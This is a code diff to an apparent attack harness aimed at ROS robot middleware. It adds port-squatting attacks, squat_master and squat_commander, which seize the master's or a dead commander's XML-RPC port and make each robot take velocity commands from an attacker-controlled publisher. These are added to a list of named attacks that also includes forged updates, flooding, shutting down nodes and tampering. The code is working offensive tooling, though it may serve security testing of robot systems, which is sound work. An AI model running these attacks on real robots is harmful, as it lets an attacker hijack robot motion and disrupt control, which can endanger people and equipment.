@@ -32,6 +32,8 @@ PUBLISHED = 1.5  # s
 FLOOD = 1300  # connections
 FLOODED = 10.0  # s
 DEAD = 2000  # publishers
+SQUATTED = 15.0  # s for which a port is waited for, and then kept
+IP_FREEBIND = 15  # ip(7)
 HELD = 3.0  # s for a lock
 TWIST = ("geometry_msgs/Twist", "9f195f881246fdfa2798d1d3eebca84a")
 LIGHTS = ("std_msgs/UInt8MultiArray", "82373f1612381bb6ee473b5cd6f5d89c")
@@ -76,13 +78,18 @@ def received(connection: socket.socket) -> bytes:
 
 
 class Publisher:
-    """A node with one topic. It sends ``body`` to whoever connects, as ``name``."""
+    """A node with one topic. It sends ``body`` to whoever connects, as ``name``.
 
-    def __init__(self, name: str, kind: tuple[str, str], body: bytes) -> None:
+    Its API is at a ``listener``, or at any port.
+    """
+
+    def __init__(
+        self, name: str, kind: tuple[str, str], body: bytes, listener: socket.socket | None = None
+    ) -> None:
         self._name, self._kind, self._body = name, kind, body
         self._served = threading.Event()
         self._topics = socket.create_server((FACTS["own"], 0))
-        self._slave = SimpleXMLRPCServer((FACTS["own"], 0), logRequests=False, allow_none=True)
+        self._slave = _server(listener or socket.create_server((FACTS["own"], 0)))
         self.uri = f"http://{FACTS['own']}:{self._slave.server_address[1]}/"
         self._slave.register_function(self._request_topic, "requestTopic")
         self._slave.register_function(lambda *_: (1, "", 0), "publisherUpdate")
@@ -113,6 +120,33 @@ class Publisher:
 
     def wait(self) -> None:
         self._served.wait(CONNECTED_WITHIN)
+
+
+def _server(listener: socket.socket) -> SimpleXMLRPCServer:
+    place = listener.getsockname()
+    server = SimpleXMLRPCServer(place, logRequests=False, allow_none=True, bind_and_activate=False)
+    server.socket.close()
+    server.socket, server.server_address = listener, place
+    return server
+
+
+def _taken(port: int) -> socket.socket | None:
+    """A socket at a port as soon as nobody else has it; None if that is never so."""
+    print("on", flush=True)
+    end = time.monotonic() + SQUATTED
+    while time.monotonic() < end:
+        with contextlib.suppress(OSError):
+            listener = socket.socket()
+            listener.setsockopt(socket.SOL_IP, IP_FREEBIND, 1)  # the host may not have its address yet
+            listener.setsockopt(socket.SOL_SOCKET, socket.SO_REUSEADDR, 1)
+            listener.bind((FACTS["own"], port))
+            listener.listen(100)
+            return listener
+    return None
+
+
+def _commander(listener: socket.socket | None = None) -> Publisher:
+    return Publisher(FACTS["commander"], TWIST, struct.pack("<6d", 0.1, 0, 0, 0, 0, 0), listener)
 
 
 def _registered(name: str, topic: str, kind: tuple[str, str], body: bytes) -> None:
@@ -149,10 +183,39 @@ def made_up_node() -> None:
 
 
 def forged_update() -> None:
-    publisher = Publisher(FACTS["commander"], TWIST, struct.pack("<6d", 0.1, 0, 0, 0, 0, 0))
+    publisher = _commander()
     driver().publisherUpdate("/master", "/k3/cmd_vel", [publisher.uri])
     publisher.wait()
     driver().publisherUpdate("/master", "/k3/cmd_vel", [])
+
+
+def squat_master() -> bool:
+    """Takes the master's port, and names this attacker to each robot as its commander; whether it had it."""
+    listener = _taken(int(FACTS["master"].rstrip("/").rpartition(":")[2]))
+    if listener is None:
+        return False
+    publisher = _commander()
+    server = _server(listener)
+
+    class Everything:
+        def _dispatch(self, method: str, _: Any) -> tuple[int, str, Any]:
+            return 1, "", {"registerSubscriber": [publisher.uri], "getPid": os.getpid()}.get(method, 0)
+
+    server.register_instance(Everything())
+    threading.Thread(target=server.serve_forever, daemon=True).start()
+    time.sleep(SQUATTED)
+    return True
+
+
+def squat_commander() -> bool:
+    """Takes the port of a commander that was killed, which the master still has; whether it had it."""
+    (_, uri), *_ = FACTS["commanders"]
+    listener = _taken(int(uri.rstrip("/").rpartition(":")[2]))
+    if listener is None:
+        return False
+    _commander(listener)
+    time.sleep(SQUATTED)
+    return True
 
 
 def set_lights() -> None:
@@ -291,15 +354,16 @@ def hold_lock() -> None:
         time.sleep(HELD)
 
 
+_FUNCTIONS = (
+    list_graph, read_odometry, publish_as_stranger, publish_as_commander, publish_in_namespace, made_up_node,
+    forged_update, squat_commander, set_lights, kick_out, shut_down_driver, shut_down_master,
+    unregister_odometry, unregister_commander, set_run_id, set_parameter, delete_parameter, dead_publishers,
+    flood_master, flood_driver, log_in, tamper, hold_lock,
+)  # fmt: skip
 ATTACKS: Mapping[str, Callable[[], Any]] = {
-    function.__name__: function
-    for function in (
-        list_graph, read_odometry, publish_as_stranger, publish_as_commander, publish_in_namespace,
-        made_up_node, forged_update, set_lights, kick_out, shut_down_driver, shut_down_master,
-        unregister_odometry, unregister_commander, set_run_id, set_parameter, delete_parameter,
-        dead_publishers, flood_master, flood_driver, log_in, tamper, hold_lock,
-    )
-}  # fmt: skip
+    **dict.fromkeys(("squat_at_restart", "squat_at_crash", "squat_at_boot"), squat_master),
+    **{function.__name__: function for function in _FUNCTIONS},
+}
 
 
 def main(attack: str, facts: str) -> str:
